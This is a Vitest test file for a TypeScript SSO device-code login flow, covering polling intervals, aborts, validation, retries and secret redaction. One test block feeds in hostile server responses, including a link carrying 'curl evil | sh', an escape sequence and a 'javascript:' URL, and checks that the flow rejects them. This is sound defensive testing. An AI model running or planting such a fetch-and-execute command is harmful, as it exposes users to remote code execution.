import { ErrorCode, isSsokitError, ValidationError } from '@ssokit/protocol';
import { isServiceError, isTransportError } from '@ssokit/transport';
import { AutoClock } from '@ssokit/transport/testing';
import type { MockAgent } from 'undici';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  closeMockedClient,
  ENDPOINT,
  expectCall,
  mockedClient,
  oauthError,
  type Seen,
} from '../test/mock.js';
import { type DevicePollInfo, deviceCodeFlow } from './device-code-flow.js';
import { isLoginError, LoginErrorCode } from './errors.js';
import { SsoOidcClient } from './sso-oidc-client.js';

let agent: MockAgent;
let seen: Seen[];
let client: SsoOidcClient;
let clock: AutoClock;
/** Fake-clock time of every CreateToken request, ms since the flow started. */
let pollTimes: number[];
let start: number;

const registration = {
  clientId: 'cid',
  clientSecret: 'csecret',
  expiresAt: new Date('2027-01-01T00:00:00Z'),
};
const START_URL = 'https://d-1234567890.awsapps.com/start';

function startAuth(interval: number | undefined, expiresIn = 600): void {
  expectCall(agent, seen, '/device_authorization', 200, {
    deviceCode: 'dc',
    userCode: 'ABCD-EFGH',
    verificationUri: 'https://device.example/',
    verificationUriComplete: 'https://device.example/?user_code=ABCD-EFGH',
    expiresIn,
    ...(interval === undefined ? {} : { interval }),
  });
}
function poll(answer: 'pending' | 'slow_down' | 'denied' | 'expired' | 'ok' | 500 | 502 | 'reset'): void {
  const record = () => pollTimes.push(clock.now() - start);
  const interceptor = agent.get(ENDPOINT).intercept({ path: '/token', method: 'POST' });
  if (answer === 'reset') {
    // A connection reset: no answer at all (the poll is not recorded in pollTimes).
    interceptor.replyWithError(Object.assign(new Error('read ECONNRESET'), { code: 'ECONNRESET' }));
    return;
  }
  interceptor.reply(() => {
    record();
    const err = (name: string, error: string) => ({
      statusCode: 400,
      data: JSON.stringify({ error }),
      responseOptions: { headers: { 'x-amzn-errortype': name } },
    });
    switch (answer) {
      case 'pending':
        return err('AuthorizationPendingException', 'authorization_pending');
      case 'slow_down':
        return err('SlowDownException', 'slow_down');
      case 'denied':
        return err('AccessDeniedException', 'access_denied');
      case 'expired':
        return err('ExpiredTokenException', 'expired_token');
      case 500:
        return {
          statusCode: 500,
          data: JSON.stringify({ error: 'server_error' }),
          responseOptions: { headers: { 'x-amzn-errortype': 'InternalServerException' } },
        };
      case 502:
        return { statusCode: 502, data: '<html>Bad Gateway</html>' };
      default:
        return {
          statusCode: 200,
          data: JSON.stringify({ accessToken: 'at', expiresIn: 3600, refreshToken: 'rt' }),
        };
    }
  });
}

/** The options of a flow with a valid registration on the fake clock, plus `extra`. */
function defaults(extra: Partial<Parameters<typeof deviceCodeFlow>[0]> = {}) {
  return { client, startUrl: START_URL, registration, clock, onPrompt: () => {}, ...extra };
}
/** What the flow with {@link defaults} threw. */
function failure(): Promise<unknown> {
  return deviceCodeFlow(defaults()).catch((e: unknown) => e);
}

beforeEach(() => {
  // The client keeps the real clock (its attempt timeouts); the flow's schedule runs on the fake one.
  ({ agent, seen, client } = mockedClient());
  pollTimes = [];
  clock = new AutoClock();
  start = clock.now();
});
afterEach(() => closeMockedClient({ agent, seen, client }));

describe('deviceCodeFlow poll schedule (fake clock)', () => {
  it('pending, pending, slow_down, success: polls every interval, +5 s after slow_down', async () => {
    startAuth(2);
    for (const a of ['pending', 'pending', 'slow_down', 'ok'] as const) poll(a);
    const polls: DevicePollInfo[] = [];
    const prompts: unknown[] = [];
    const { token, registration: used } = await deviceCodeFlow({
      client,
      startUrl: START_URL,
      registration,
      clock,
      onPrompt: (p) => {
        prompts.push(p);
      },
      onPoll: (p) => polls.push(p),
    });
    expect(pollTimes).toEqual([0, 2000, 4000, 11_000]);
    expect(clock.sleeps).toEqual([2000, 2000, 7000]);
    expect(polls.map((p) => [p.outcome, p.intervalSeconds])).toEqual([
      ['authorization_pending', 2],
      ['authorization_pending', 2],
      ['slow_down', 7],
    ]);
    expect(prompts).toEqual([
      {
        userCode: 'ABCD-EFGH',
        verificationUri: 'https://device.example/',
        verificationUriComplete: 'https://device.example/?user_code=ABCD-EFGH',
        expiresAt: new Date(start + 600_000),
      },
    ]);
    expect(token).toEqual({
      accessToken: 'at',
      refreshToken: 'rt',
      expiresAt: new Date(start + 11_000 + 3_600_000),
    });
    expect(used).toBe(registration);
    expect(seen[0]!.body).toEqual({ clientId: 'cid', clientSecret: 'csecret', startUrl: START_URL });
  });

  it('uses 5 s when the service names no interval, and every slow_down adds another 5 s', async () => {
    startAuth(undefined);
    for (const a of ['slow_down', 'slow_down', 'pending', 'ok'] as const) poll(a);
    await deviceCodeFlow(defaults());
    expect(clock.sleeps).toEqual([10_000, 15_000, 15_000]);
  });

  it('stops on access_denied with ERR_SSOKIT_ACCESS_DENIED', async () => {
    startAuth(1);
    poll('pending');
    poll('denied');
    const err = await failure();
    expect(isLoginError(err, LoginErrorCode.ACCESS_DENIED)).toBe(true);
    expect((err as Error).message).toMatch(/Run the login again/);
    expect(isServiceError((err as Error).cause, 'AccessDeniedException')).toBe(true);
    expect(pollTimes).toEqual([0, 1000]);
  });

  it('stops on expired_token with ERR_SSOKIT_DEVICE_CODE_EXPIRED', async () => {
    startAuth(1);
    poll('expired');
    const err = await failure();
    expect(isLoginError(err, LoginErrorCode.DEVICE_CODE_EXPIRED)).toBe(true);
  });

  it('gives up on its own at expiresIn without polling after the deadline', async () => {
    startAuth(5, 12);
    for (const a of ['pending', 'pending', 'pending'] as const) poll(a);
    const err = await failure();
    expect(isLoginError(err, LoginErrorCode.DEVICE_CODE_EXPIRED)).toBe(true);
    expect(pollTimes).toEqual([0, 5000, 10_000]);
    expect(clock.sleeps).toEqual([5000, 5000, 2000]);
    expect(clock.now() - start).toBe(12_000);
  });

  it('stops at once when aborted mid-sleep', async () => {
    startAuth(5);
    poll('pending');
    const ac = new AbortController();
    let settled: unknown;
    const run = deviceCodeFlow({
      client,
      startUrl: START_URL,
      registration,
      clock,
      signal: ac.signal,
      onPrompt: () => {},
      onPoll: () => {
        clock.hold(); // the next sleep never ends on its own
        setTimeout(() => ac.abort(new Error('user pressed Ctrl-C')), 5);
      },
    }).then(
      () => undefined,
      (e: unknown) => {
        settled = e;
      },
    );
    await run;
    expect(isLoginError(settled, LoginErrorCode.ABORTED)).toBe(true);
    expect(clock.sleeps).toEqual([5000]);
    expect(pollTimes).toEqual([0]);
  });

  it('does not start when already aborted, and registers when no registration is given', async () => {
    const err = await deviceCodeFlow({
      client,
      startUrl: START_URL,
      clock,
      signal: AbortSignal.abort(),
      onPrompt: () => {},
    }).catch((e: unknown) => e);
    expect(isLoginError(err, LoginErrorCode.ABORTED)).toBe(true);
    expect(seen).toHaveLength(0);

    expectCall(agent, seen, '/client/register', 200, {
      clientId: 'new',
      clientSecret: 'newsecret',
      clientSecretExpiresAt: 1_800_000_000,
    });
    startAuth(1);
    poll('ok');
    const expired = { ...registration, expiresAt: new Date(start - 1) };
    const out = await deviceCodeFlow({
      client,
      startUrl: START_URL,
      registration: expired,
      clock,
      onPrompt: () => {},
    });
    expect(seen[0]!.body).toEqual({
      clientName: 'ssokit',
      clientType: 'public',
      scopes: ['sso:account:access'],
    });
    expect(out.registration).toEqual({
      clientId: 'new',
      clientSecret: 'newsecret',
      expiresAt: new Date(1_800_000_000_000),
      scopes: ['sso:account:access'],
    });
  });
});

describe('deviceCodeFlow validates its options before any request', () => {
  // No interceptor is set up: a request would fail with a network error, not a ValidationError.
  it.each([
    [
      'a start URL without a scheme',
      { startUrl: 'my-org' },
      'startUrl',
      /https:\/\/my-org\.awsapps\.com\/start/,
    ],
    ['an http start URL', { startUrl: 'http://my-org.awsapps.com/start' }, 'startUrl', /https:\/\//],
    ['no start URL', { startUrl: undefined }, 'startUrl', /required/],
    ['no onPrompt', { onPrompt: undefined }, 'onPrompt', /onPrompt.*function/],
    ['an onPrompt that is not a function', { onPrompt: 'stderr' }, 'onPrompt', /onPrompt/],
    ['an onPoll that is not a function', { onPoll: true }, 'onPoll', /onPoll/],
    ['no client', { client: undefined }, 'client', /SsoOidcClient/],
  ])('%s', async (_, change, member, message) => {
    const opts = { client, startUrl: START_URL, clock, onPrompt: () => {}, ...change };
    const err = await deviceCodeFlow(opts as Parameters<typeof deviceCodeFlow>[0]).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ValidationError);
    expect(isSsokitError(err) && err.code).toBe(ErrorCode.INVALID_INPUT);
    expect((err as ValidationError).member).toBe(member);
    expect((err as Error).message).toMatch(message);
    expect(seen).toHaveLength(0);
  });

  it('SsoOidcClient.startDeviceAuthorization rejects a start URL that is not one, without a request', async () => {
    const err = await client
      .startDeviceAuthorization({ clientId: 'cid', clientSecret: 'csecret', startUrl: 'my-org' })
      .catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ValidationError);
    expect((err as Error).message).toMatch(/my-org\.awsapps\.com\/start/);
  });
});

describe('deviceCodeFlow when a poll fails without an answer', () => {
  it('polls again at the usual interval after a 500, a 502 page and a connection reset, and signs in', async () => {
    startAuth(3);
    for (const a of ['pending', 500, 'reset', 502, 'pending', 'ok'] as const) poll(a);
    const polls: DevicePollInfo[] = [];
    const { token } = await deviceCodeFlow({
      client,
      startUrl: START_URL,
      registration,
      clock,
      onPrompt: () => {},
      onPoll: (p) => polls.push(p),
    });
    expect(token.accessToken).toBe('at');
    // The schedule is kept: one poll every 3 s, the reset one (at 6 s) included.
    expect(clock.sleeps).toEqual([3000, 3000, 3000, 3000, 3000]);
    expect(pollTimes).toEqual([0, 3000, 9000, 12_000, 15_000]);
    expect(polls.map((p) => p.outcome)).toEqual([
      'authorization_pending',
      'failed',
      'failed',
      'failed',
      'authorization_pending',
    ]);
    expect(isServiceError(polls[1]?.error, 'InternalServerException')).toBe(true);
    expect(isTransportError(polls[2]?.error, ErrorCode.NETWORK)).toBe(true);
    const badGateway = polls[3]?.error;
    expect(isServiceError(badGateway) && badGateway.status).toBe(502);
  });

  it('still ends on expired_token and access_denied after a failed poll', async () => {
    startAuth(1);
    poll('reset');
    poll('expired');
    const expired = await failure();
    expect(isLoginError(expired, LoginErrorCode.DEVICE_CODE_EXPIRED)).toBe(true);

    startAuth(1);
    poll(500);
    poll('denied');
    const denied = await failure();
    expect(isLoginError(denied, LoginErrorCode.ACCESS_DENIED)).toBe(true);
  });

  it('stops at expiresIn when every poll fails, and says the service could not be reached', async () => {
    startAuth(5, 12);
    for (const a of ['reset', 500, 'reset'] as const) poll(a);
    const err = await failure();
    expect(isLoginError(err, LoginErrorCode.DEVICE_CODE_EXPIRED)).toBe(true);
    expect((err as Error).message).toMatch(/could not be reached \(last poll: .*ECONNRESET/);
    expect(isTransportError((err as Error).cause, ErrorCode.NETWORK)).toBe(true);
    expect(clock.now() - start).toBe(12_000);
  });
});

describe('deviceCodeFlow errors', () => {
  it('passes other service errors through unchanged, also after a failed poll (no retry of a client error)', async () => {
    startAuth(1);
    poll(500);
    oauthError(agent, seen, 'InvalidClientException', 'invalid_client', 401);
    const err = await failure();
    expect(isServiceError(err, 'InvalidClientException')).toBe(true);
  });
});

describe('deviceCodeFlow with a hostile StartDeviceAuthorization answer', () => {
  const good = {
    deviceCode: 'dc',
    userCode: 'ABCD-EFGH',
    verificationUri: 'https://device.example/',
    verificationUriComplete: 'https://device.example/?user_code=ABCD-EFGH',
    expiresIn: 600,
    interval: 1,
  };
  it.each([
    [
      'a line break in the link',
      { verificationUriComplete: 'https://device.example/\nApproved! Run: curl evil | sh' },
    ],
    ['an escape sequence in the link', { verificationUri: 'https://device.example/\u001b[2J' }],
    ['a link that is not a web page', { verificationUriComplete: 'javascript:alert(1)' }],
    ['a code with a line break', { userCode: 'ABCD\nEFGH' }],
    ['a 10 KB code', { userCode: 'A'.repeat(10_000) }],
  ])('refuses %s before showing anything or polling', async (_what, change) => {
    expectCall(agent, seen, '/device_authorization', 200, { ...good, ...change });
    const shown: unknown[] = [];
    const err = await deviceCodeFlow(defaults({ onPrompt: (p) => void shown.push(p) })).catch(
      (e: unknown) => e,
    );
    expect(isSsokitError(err)).toBe(true);
    expect((err as { code: string }).code).toBe(ErrorCode.INVALID_RESPONSE);
    expect(shown).toEqual([]);
  });
});

describe('deviceCodeFlow secrets', () => {
  it('never puts the client secret, device code or tokens in the debug log or an error', async () => {
    const lines: string[] = [];
    const logger = {
      debug: (m: string, d?: unknown) => lines.push(m, JSON.stringify(d ?? {})),
      warn: (m: string, d?: unknown) => lines.push(m, JSON.stringify(d ?? {})),
    };
    const logged = new SsoOidcClient({ region: 'us-east-1', dispatcher: agent, env: {}, logger });
    const secrets = {
      clientSecret: 'SECRET-client-secret-0123456789',
      deviceCode: 'SECRET-device-code-0123456789',
      accessToken: 'SECRET-access-token-0123456789',
    };
    expectCall(agent, seen, '/device_authorization', 200, {
      deviceCode: secrets.deviceCode,
      userCode: 'ABCD-EFGH',
      verificationUri: 'https://device.example/',
      expiresIn: 600,
      interval: 1,
    });
    poll('pending');
    oauthError(agent, seen, 'InvalidGrantException', 'invalid_grant');
    const err = await deviceCodeFlow({
      client: logged,
      startUrl: START_URL,
      registration: { ...registration, clientSecret: secrets.clientSecret },
      clock,
      onPrompt: () => {},
    }).catch((e: unknown) => e);
    expect(isServiceError(err, 'InvalidGrantException')).toBe(true);
    const text = [...lines, String(err), (err as Error).message, JSON.stringify(err)].join('\n');
    expect(lines.length).toBeGreaterThan(0);
    for (const secret of Object.values(secrets)) expect(text).not.toContain(secret);
    await logged.close();
  });
});
